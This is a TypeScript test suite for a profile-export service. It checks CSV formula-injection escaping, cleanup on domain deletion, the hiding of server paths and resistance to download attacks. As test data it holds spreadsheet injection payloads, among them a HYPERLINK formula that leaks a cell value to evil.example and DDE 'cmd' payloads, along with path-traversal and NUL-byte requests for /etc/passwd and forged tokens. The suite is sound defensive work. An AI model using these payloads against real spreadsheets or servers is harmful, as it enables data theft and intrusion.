import { existsSync, mkdirSync, mkdtempSync, readdirSync, readlinkSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { restoreCsvCell } from '../src/modules/export/export.format.js';
import { startExport, waitForJob } from './helpers/jobs.js';
import { ADMIN_TOKEN, startTestServer, type TestServer } from './helpers/server.js';

/** Issue 8: CSV formula injection, files outliving deleteDomain, server paths in jobs, download attacks. */
let s: TestServer;
let exportDir: string;
let importDir: string;
let origin: string;

const ALL_JOB_FIELDS = `id kind status params progress { done total } counts { name value } rowErrors { line reason } result error cancelRequested
  createdAt startedAt finishedAt export { format directory rows files { objectType name path bytes rows downloadPath } }`;

async function rowsOf(query: ReturnType<typeof sql>): Promise<Record<string, any>[]> {
  const r = await s.database.db.execute(query);
  return ((r as any).rows ?? r) as Record<string, any>[];
}

/** A domain's id (not in the API), to find its folders on disk. */
async function domainId(name: string): Promise<string> {
  return (await rowsOf(sql`select id::text as id from domains where name = ${name}`))[0]!.id as string;
}

async function finishedExport(key: string, input: Record<string, unknown>): Promise<Record<string, any>> {
  const started = await startExport(s, key, input);
  expect(started.errors).toBeUndefined();
  const job = await waitForJob(s, key, started.data!.startExport.id);
  expect(job.status).toBe('SUCCEEDED');
  return job;
}

/** An HTTP request exactly as written: fetch would normalise `..` and encodings before sending. */
function raw(method: string, target: string, headers: Record<string, string> = {}): Promise<{ status: number; headers: Record<string, unknown>; body: string }> {
  const url = new URL(s.url);
  return new Promise((resolve, reject) => {
    const req = request({ host: url.hostname, port: url.port, method, path: target, headers, agent: false }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }));
      res.on('error', reject);
    });
    req.on('error', reject);
    req.end();
  });
}

/** Adds `n` bare profiles straight into the table: enough that an export of them is still running a moment later. */
async function bulkProfiles(domainName: string, n: number): Promise<void> {
  await s.database.db.execute(sql`insert into profiles (domain_id, first_name, email_address)
    select d.id, 'Bulk' || g, 'bulk' || g || '@example.com' from domains d, generate_series(1, ${n}) g where d.name = ${domainName}`);
}

beforeAll(async () => {
  exportDir = mkdtempSync(path.join(tmpdir(), 'pg-exh-'));
  importDir = mkdtempSync(path.join(tmpdir(), 'pg-imh-'));
  // One worker per job kind: a second export of any domain waits until the running one has ended.
  s = await startTestServer({ exportDir, importDir, jobPollSeconds: 0.5, jobConcurrency: 1 });
  origin = new URL(s.url).origin;
});
afterAll(async () => {
  await s?.close();
  rmSync(exportDir, { recursive: true, force: true });
  rmSync(importDir, { recursive: true, force: true });
});

const FORMULAS = {
  firstName: '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  lastName: "+cmd|' /C calc'!A0",
  middleName: '-2+3+cmd|\' /C calc\'!A0',
  businessName: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  additionalInformation: '=1+1 (profile text is trimmed: tab and CR cases are in the objects test)',
  accountNumber: "'=already quoted",
};
const ATTRIBUTES = [
  { key: 'formula', value: '=1+1' },
  { key: 'balance', value: '-3' },
  { key: 'fax', value: '+15551234567' },
  { key: 'small', value: '-1.5e-3' },
  { key: 'quote', value: "'hello" },
  { key: 'quotes', value: "''x" },
];
const PROFILE_FIELDS = `id accountNumber firstName middleName lastName businessName additionalInformation phoneNumber attributes { key value }`;

describe('CSV formula injection', () => {
  it('neutralises formula cells with a leading quote, leaves plain numbers, and restoreCsvCell gives every value back', async () => {
    const a = await s.createDomain();
    const created = await s.gql(
      `mutation($input: ProfileInput!) { createProfile(input: $input) { ${PROFILE_FIELDS} } }`,
      { input: { ...FORMULAS, phoneNumber: '+14155550123', attributes: ATTRIBUTES } },
      a.key,
    );
    expect(created.errors).toBeUndefined();
    const p = created.data!.createProfile;
    expect(p.firstName).toBe(FORMULAS.firstName);
    const job = await finishedExport(a.key, { objectTypes: ['profile'], format: 'CSV' });
    const res = await fetch(origin + job.export.files[0].downloadPath, { headers: { authorization: `Bearer ${a.key}` } });
    expect(res.status).toBe(200);
    const text = await res.text();

    const [row] = parse(text, { columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({
      firstName: `'${FORMULAS.firstName}`,
      lastName: `'${FORMULAS.lastName}`,
      middleName: `'${FORMULAS.middleName}`,
      businessName: `'${FORMULAS.businessName}`,
      additionalInformation: `'${FORMULAS.additionalInformation}`,
      accountNumber: `'${FORMULAS.accountNumber}`,
      'attributes.formula': "'=1+1",
      'attributes.quotes': "'''x",
      // Plain numbers and a quote before ordinary text are written as they are.
      phoneNumber: '+14155550123',
      'attributes.balance': '-3',
      'attributes.fax': '+15551234567',
      'attributes.small': '-1.5e-3',
      'attributes.quote': "'hello",
    });
    // No cell (header included) starts a formula, whatever the column.
    const cells = (parse(text) as string[][]).flat();
    for (const cell of cells) if (/^[=+\-@\t\r]/.test(cell)) expect(cell, JSON.stringify(cell)).toMatch(/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/);

    // The importer's side of the rule: every value comes back exactly.
    const [restored] = parse(text, { columns: true, trim: true, cast: restoreCsvCell }) as Record<string, string>[];
    for (const field of Object.keys(FORMULAS)) expect(restored![field]).toBe(p[field]);
    for (const { key, value } of p.attributes as { key: string; value: string }[]) expect(restored![`attributes.${key}`]).toBe(value);
    expect(restored!.phoneNumber).toBe(p.phoneNumber);

    // JSONL is no spreadsheet format: values stay exactly as stored.
    const jsonl = await finishedExport(a.key, { objectTypes: ['profile'], format: 'JSONL' });
    const body = await (await fetch(origin + jsonl.export.files[0].downloadPath, { headers: { authorization: `Bearer ${a.key}` } })).text();
    expect(JSON.parse(body.trim())).toMatchObject({ firstName: FORMULAS.firstName, accountNumber: FORMULAS.accountNumber, attributes: { formula: '=1+1' } });
  });

  it("neutralises custom objects' cells and headers (keys as sent)", async () => {
    const a = await s.createDomain();
    const type = {
      name: 'Visit',
      fields: [
        { name: 'visitId', source: '_source.visitId', contentType: 'STRING' },
        { name: 'email', source: '_source.email', target: '_profile.EmailAddress', contentType: 'EMAIL_ADDRESS' },
      ],
      keys: [
        { name: 'visitId', identifiers: ['UNIQUE'], fieldNames: ['visitId'] },
        { name: '_email', identifiers: ['PROFILE'], fieldNames: ['email'] },
      ],
      allowProfileCreation: true,
    };
    expect((await s.gql(`mutation($input: PutObjectTypeInput!) { putObjectType(input: $input) { name } }`, { input: type }, a.key)).errors).toBeUndefined();
    const put = await s.gql(
      `mutation($o: [JSONObject!]!) { putProfileObjects(objectType: "Visit", objects: $o) { __typename } }`,
      { o: [{ visitId: '-v1', email: 'v@example.com', note: '@cmd', '=key': 'x', amount: '-42', tab: '\t=1+1', cr: '\r=1+1', plus: '+1 (555) 123-4567' }] },
      a.key,
    );
    expect(put.errors).toBeUndefined();
    const job = await finishedExport(a.key, { objectTypes: ['Visit'], format: 'CSV' });
    const text = await (await fetch(origin + job.export.files[0].downloadPath, { headers: { authorization: `Bearer ${a.key}` } })).text();
    const [header, row] = parse(text) as string[][];
    expect(header).toContain("'=key");
    expect(header).not.toContain('=key');
    const rec = Object.fromEntries(header!.map((h, i) => [h, row![i]]));
    expect(rec).toMatchObject({ _uniqueKey: "'-v1", visitId: "'-v1", note: "'@cmd", "'=key": 'x', amount: '-42', tab: "'\t=1+1", cr: "'\r=1+1", plus: "'+1 (555) 123-4567" });
    // Read back as the importer reads (unquoted cells trimmed), restoreCsvCell gives every cell back.
    const [restored] = parse(text, { columns: true, trim: true, cast: restoreCsvCell }) as Record<string, string>[];
    expect(restored).toMatchObject({ _uniqueKey: '-v1', visitId: '-v1', note: '@cmd', '=key': 'x', amount: '-42', tab: '\t=1+1', cr: '\r=1+1', plus: '+1 (555) 123-4567' });
  });

  it('re-imports a CSV export with formula cells into another domain unchanged', async () => {
    const a = await s.createDomain();
    const b = await s.createDomain();
    const created = await s.gql(`mutation($input: ProfileInput!) { createProfile(input: $input) { id } }`, { input: { ...FORMULAS, emailAddress: 'f@example.com', attributes: ATTRIBUTES } }, a.key);
    expect(created.errors).toBeUndefined();
    const job = await finishedExport(a.key, { objectTypes: ['profile'], format: 'CSV' });
    const file = await (await fetch(origin + job.export.files[0].downloadPath, { headers: { authorization: `Bearer ${a.key}` } })).text();
    const headers = (parse(file, { to_line: 1 }) as string[][])[0]!;
    const suggestion = await s.gql(`query($h: [String!]!) { suggestMapping(headers: $h, typeName: "Restored") { objectType } }`, { h: headers }, b.key);
    expect((await s.gql(`mutation($input: PutObjectTypeInput!) { putObjectType(input: $input) { name } }`, { input: suggestion.data!.suggestMapping.objectType }, b.key)).errors).toBeUndefined();
    const imported = await s.gql(`mutation($input: ImportCsvInput!) { importCsv(input: $input) { counts { rows createdProfiles failed } } }`, { input: { objectType: 'Restored', content: file } }, b.key);
    expect(imported.data!.importCsv.counts).toMatchObject({ rows: 1, createdProfiles: 1, failed: 0 });
    const dump = async (key: string) => {
      const r = await s.gql(`{ profiles(first: 5) { nodes { accountNumber firstName middleName lastName businessName additionalInformation attributes { key value } } } }`, {}, key);
      return r.data!.profiles.nodes;
    };
    expect(await dump(b.key)).toEqual(await dump(a.key));
  });
});

describe('deleteDomain', () => {
  it("removes the domain's export folder and import uploads, and ends its queued and running jobs", async () => {
    const a = await s.createDomain();
    const b = await s.createDomain();
    const aId = await domainId(a.name);
    await s.gql(`mutation { createProfile(input: { firstName: "Gone", emailAddress: "gone@example.com" }) { id } }`, {}, a.key);
    const done = await finishedExport(a.key, { objectTypes: ['profile'] });
    expect(existsSync(path.join(exportDir, aId, done.id, 'profile.jsonl'))).toBe(true);

    // An uploaded import: its job deletes the file, the domain's uploads folder stays.
    const type = {
      name: 'Row',
      fields: [{ name: 'email', source: '_source.email', target: '_profile.EmailAddress', contentType: 'EMAIL_ADDRESS' }],
      keys: [{ name: 'email', identifiers: ['UNIQUE', 'PROFILE'], fieldNames: ['email'] }],
      allowProfileCreation: true,
    };
    expect((await s.gql(`mutation($input: PutObjectTypeInput!) { putObjectType(input: $input) { name } }`, { input: type }, a.key)).errors).toBeUndefined();
    const imp = await s.gql(`mutation($input: StartImportInput!) { startImport(input: $input) { id } }`, { input: { objectType: 'Row', content: 'email\nrow@example.com\n' } }, a.key);
    expect(imp.errors).toBeUndefined();
    expect((await waitForJob(s, a.key, imp.data!.startImport.id)).status).toBe('SUCCEEDED');
    expect(existsSync(path.join(importDir, '.uploads', aId))).toBe(true);

    // A running export and, behind it on the only worker, a queued one.
    await bulkProfiles(a.name, 60_000);
    const running = (await startExport(s, a.key, { objectTypes: ['profile'], format: 'CSV' })).data!.startExport.id as string;
    expect((await waitForJob(s, a.key, running, ['RUNNING', 'SUCCEEDED', 'FAILED', 'CANCELLED'])).status).toBe('RUNNING');
    const queued = (await startExport(s, a.key, { objectTypes: ['profile'] })).data!.startExport;
    expect(queued.status).toBe('QUEUED');

    const del = await s.gql(`mutation($name: String!) { deleteDomain(name: $name) }`, { name: a.name }, ADMIN_TOKEN);
    expect(del.errors).toBeUndefined();
    expect(del.data!.deleteDomain).toBe(true);
    expect(existsSync(path.join(exportDir, aId))).toBe(false);
    expect(existsSync(path.join(importDir, '.uploads', aId))).toBe(false);
    // Both were still on the queue and are cancelled there (no worker runs or retries them).
    const queue = await rowsOf(sql`select id::text as id, state from pgboss.job where id in (${running}::uuid, ${queued.id}::uuid) order by state`);
    expect(Object.fromEntries(queue.map((q) => [q.id, q.state]))).toEqual({ [running]: 'cancelled', [queued.id]: 'cancelled' });
    expect(await rowsOf(sql`select id from jobs where domain_id = ${aId}::uuid`)).toEqual([]);
    expect((await s.gql(`{ jobs { nodes { id } } }`, {}, a.key)).errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');

    // The running export has ended (the only export worker runs B's next) and wrote nothing after.
    const other = await finishedExport(b.key, { objectTypes: ['profile'] });
    expect(other.export.rows).toBe(0);
    expect(existsSync(path.join(exportDir, aId))).toBe(false);
    expect(readdirSync(exportDir)).not.toContain(aId);
  });
});

describe('server paths', () => {
  it('never appear in the job JSON a tenant gets: params, result, error, export, jobs list', async () => {
    const a = await s.createDomain();
    const aId = await domainId(a.name);
    await s.gql(`mutation { createProfile(input: { firstName: "Pat", emailAddress: "pat@example.com" }) { id } }`, {}, a.key);
    const ok = await finishedExport(a.key, { objectTypes: ['profile', 'contact'], format: 'CSV' });

    // A failed export: the domain's folder is a file, so creating the job's folder fails with a path in the message.
    rmSync(path.join(exportDir, aId), { recursive: true });
    writeFileSync(path.join(exportDir, aId), 'in the way');
    const failedId = (await startExport(s, a.key, { objectTypes: ['profile'] })).data!.startExport.id;
    const failed = await waitForJob(s, a.key, failedId);
    rmSync(path.join(exportDir, aId));
    expect(failed.status).toBe('FAILED');
    expect(failed.error).toMatch(/internal error/);

    // A row written before file names were stored: absolute paths in its result.
    const legacyDir = path.join(exportDir, aId, '00000000-0000-4000-8000-000000000001');
    mkdirSync(legacyDir, { recursive: true });
    writeFileSync(path.join(legacyDir, 'profile.jsonl'), '{"legacy":true}\n');
    const [legacy] = await rowsOf(sql`insert into jobs (id, domain_id, kind, status, params, result, finished_at)
      values ('00000000-0000-4000-8000-000000000001', ${aId}::uuid, 'EXPORT', 'SUCCEEDED', ${JSON.stringify({ objectTypes: ['profile'], format: 'JSONL', from: null, to: null })}::jsonb,
        ${JSON.stringify({ format: 'JSONL', directory: legacyDir, files: [{ objectType: 'profile', path: path.join(legacyDir, 'profile.jsonl'), bytes: 16, rows: 1 }], rows: 1 })}::jsonb, now())
      returning id::text as id`);

    const ids = [ok.id, failedId, legacy!.id];
    const jobs = await Promise.all(ids.map(async (id) => (await s.gql(`query($id: ID!) { job(id: $id) { ${ALL_JOB_FIELDS} } }`, { id }, a.key)).data!.job));
    const list = await s.gql(`{ jobs(kind: EXPORT) { nodes { ${ALL_JOB_FIELDS} } } }`, {}, a.key);
    expect(list.data!.jobs.nodes).toHaveLength(3);
    const text = JSON.stringify([jobs, list.data]);
    for (const dir of new Set([exportDir, path.resolve(exportDir), realpathSync(exportDir), tmpdir()])) expect(text).not.toContain(dir);
    expect(text).not.toContain(aId);

    const [finished, , old] = jobs;
    expect(finished.result).toEqual({
      format: 'CSV',
      rows: 1,
      files: [
        { objectType: 'profile', name: 'profile.csv', bytes: expect.any(Number), rows: 1 },
        { objectType: 'contact', name: 'contact.csv', bytes: expect.any(Number), rows: 0 },
      ],
    });
    expect(finished.export).toMatchObject({ directory: `/exports/${ok.id}/`, files: [{ name: 'profile.csv', path: 'profile.csv', downloadPath: `/exports/${ok.id}/profile.csv` }, { name: 'contact.csv' }] });
    expect(old.result).toEqual({ format: 'JSONL', rows: 1, files: [{ objectType: 'profile', name: 'profile.jsonl', bytes: 16, rows: 1 }] });
    expect(old.export.files[0]).toMatchObject({ name: 'profile.jsonl', path: 'profile.jsonl', downloadPath: `/exports/${old.id}/profile.jsonl` });
    const res = await fetch(origin + old.export.files[0].downloadPath, { headers: { authorization: `Bearer ${a.key}` } });
    expect(res.status).toBe(200);
    expect(await res.text()).toBe('{"legacy":true}\n');
  });
});

describe('export download attacks', () => {
  let a: { name: string; key: string };
  let b: { name: string; key: string };
  let jobA: Record<string, any>;
  let jobB: Record<string, any>;
  let fileA: string;
  beforeAll(async () => {
    a = await s.createDomain();
    b = await s.createDomain();
    await s.gql(`mutation { createProfile(input: { firstName: "SecretOfA", emailAddress: "a@example.com" }) { id } }`, {}, a.key);
    await s.gql(`mutation { createProfile(input: { firstName: "SecretOfB", emailAddress: "b@example.com" }) { id } }`, {}, b.key);
    jobA = await finishedExport(a.key, { objectTypes: ['profile'] });
    jobB = await finishedExport(b.key, { objectTypes: ['profile'] });
    fileA = `/exports/${jobA.id}/profile.jsonl`;
    expect(jobA.export.files[0].downloadPath).toBe(fileA);
  });
  const auth = (k: string) => ({ authorization: `Bearer ${k}` });

  it('answers traversal, NUL, malformed and over-long names with 4xx and no file', async () => {
    const id = jobA.id as string;
    const attempts = [
      `/exports/${id}/../../../../etc/passwd`,
      `/exports/${id}/..%2F..%2F..%2Fetc%2Fpasswd`,
      `/exports/${id}/%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
      `/exports/${id}/%2e%2e/%2e%2e/${jobB.id}/profile.jsonl`,
      `/exports/${id}/..%2F..%2F${await domainId(b.name)}%2F${jobB.id}%2Fprofile.jsonl`,
      `/exports/${id}/%2e%2e`,
      `/exports/${id}/.`,
      `/exports/${id}/profile.jsonl%00`,
      `/exports/${id}/profile.jsonl%00.csv`,
      `/exports/${id}/%00`,
      `/exports/${id}/%E0%A4%A`,
      `/exports/${id}/%`,
      `/exports/${id}/profile.jsonl%2F`,
      `/exports/${id}/${'a'.repeat(300)}`,
      `/exports/${id}/${'%41'.repeat(2000)}`,
      `/exports/${id}/${'a'.repeat(20_000)}`,
      `/exports/${id.toUpperCase().replace(/-/g, '_')}/profile.jsonl`,
      `/exports/${id}/profile.jsonl/`,
      `/exports/${id}//profile.jsonl`,
    ];
    for (const target of attempts) {
      const r = await raw('GET', target, auth(a.key));
      expect(r.status, target).toBeGreaterThanOrEqual(400);
      expect(r.status, target).toBeLessThan(500);
      expect(r.body, target).not.toContain('SecretOf');
      expect(r.body, target).not.toContain('root:');
    }
    expect((await raw('GET', `/exports/${id}/${'%41'.repeat(300)}`, auth(a.key))).status).toBe(400);
    expect((await raw('GET', `/exports/${id}/%E0%A4%A`, auth(a.key))).status).toBe(400);
    // A file in the job's folder that the job did not write is not served either.
    writeFileSync(path.join(exportDir, await domainId(a.name), id, 'planted.jsonl'), 'planted\n');
    expect((await raw('GET', `/exports/${id}/planted.jsonl`, auth(a.key))).status).toBe(404);
    // Percent-encoded characters of the real name are fine.
    const encoded = await raw('GET', `/exports/${id}/profile%2Ejsonl`, auth(a.key));
    expect(encoded.status).toBe(200);
    expect(encoded.body).toContain('SecretOfA');
  });

  it("never serves another domain's file, nor to a revoked or deleted domain's key", async () => {
    const fileB = `/exports/${jobB.id}/profile.jsonl`;
    for (const method of ['GET', 'HEAD']) {
      const r = await raw(method, fileB, auth(a.key));
      expect(r.status, method).toBe(404);
      expect(r.body).not.toContain('SecretOfB');
    }
    expect((await raw('GET', fileB, auth(b.key))).body).toContain('SecretOfB');

    const extra = await s.gql(`mutation($d: String!) { createApiKey(domain: $d, name: "dl") { apiKey apiKeyInfo { id } } }`, { d: a.name }, ADMIN_TOKEN);
    const { apiKey, apiKeyInfo } = extra.data!.createApiKey;
    expect((await raw('GET', fileA, auth(apiKey))).status).toBe(200);
    expect((await s.gql(`mutation($id: ID!) { revokeApiKey(id: $id) { revokedAt } }`, { id: apiKeyInfo.id }, ADMIN_TOKEN)).errors).toBeUndefined();
    const revoked = await raw('GET', fileA, auth(apiKey));
    expect(revoked.status).toBe(401);
    expect(revoked.headers['www-authenticate']).toBe('Bearer');
    expect(revoked.body).not.toContain('SecretOfA');
    expect((await raw('GET', fileA, { authorization: 'Bearer pgk_forged' })).status).toBe(401);
    expect((await raw('GET', fileA, { authorization: `Basic ${Buffer.from(`x:${a.key}`).toString('base64')}` })).status).toBe(401);
    expect((await raw('GET', fileA, auth(ADMIN_TOKEN))).status).toBe(403);

    const c = await s.createDomain();
    await s.gql(`mutation { createProfile(input: { firstName: "SecretOfC" }) { id } }`, {}, c.key);
    const jobC = await finishedExport(c.key, { objectTypes: ['profile'] });
    expect((await s.gql(`mutation($n: String!) { deleteDomain(name: $n) }`, { n: c.name }, ADMIN_TOKEN)).data!.deleteDomain).toBe(true);
    const gone = await raw('GET', `/exports/${jobC.id}/profile.jsonl`, auth(c.key));
    expect(gone.status).toBe(401);
    expect(gone.body).not.toContain('SecretOfC');
  });

  it('answers HEAD with the headers only, ignores Range, and refuses other methods', async () => {
    const get = await raw('GET', fileA, auth(a.key));
    expect(get.status).toBe(200);
    expect(get.headers).toMatchObject({ 'cache-control': 'no-store', 'x-content-type-options': 'nosniff', 'accept-ranges': 'none' });
    const head = await raw('HEAD', fileA, auth(a.key));
    expect(head.status).toBe(200);
    expect(head.body).toBe('');
    expect(Number(head.headers['content-length'])).toBe(Buffer.byteLength(get.body));
    for (const range of ['bytes=0-3', 'bytes=5-2', 'bytes=-99999999999999999999', 'bytes=0-0,2-3', 'lines=1-2', 'bytes=99999999999999999999-']) {
      const r = await raw('GET', fileA, { ...auth(a.key), range });
      expect(r.status, range).toBe(200);
      expect(r.body, range).toBe(get.body);
    }
    for (const method of ['POST', 'PUT', 'DELETE']) {
      const r = await raw(method, fileA, auth(a.key));
      expect(r.status, method).toBe(405);
      expect(r.headers.allow).toBe('GET, HEAD');
    }
    expect((await raw('HEAD', fileA)).status).toBe(401);
  });

  it('closes the file when clients abort downloads midway', async () => {
    const dir = path.join(exportDir, await domainId(a.name), jobA.id);
    const big = path.join(dir, 'profile.jsonl');
    // Stands in for a large export: far more than the socket buffers hold.
    writeFileSync(big, Buffer.alloc(64 * 1024 * 1024, 'x'));
    const openOnBig = () =>
      readdirSync('/proc/self/fd').filter((fd) => {
        try {
          return readlinkSync(`/proc/self/fd/${fd}`) === realpathSync(big);
        } catch {
          return false;
        }
      }).length;
    const url = new URL(s.url);
    for (let i = 0; i < 5; i++) {
      // Reads the first chunk, then hangs up.
      const status = await new Promise<number>((resolve, reject) => {
        const req = request({ host: url.hostname, port: url.port, path: fileA, headers: auth(a.key), agent: false }, (res) => {
          res.once('data', () => {
            req.destroy();
            resolve(res.statusCode!);
          });
        });
        req.on('error', (err) => (req.destroyed ? undefined : reject(err)));
        req.end();
      });
      expect(status).toBe(200);
    }
    const until = Date.now() + 10_000;
    while (openOnBig() > 0 && Date.now() < until) await new Promise((r) => setTimeout(r, 50));
    expect(openOnBig()).toBe(0);
    rmSync(big);
  });
});
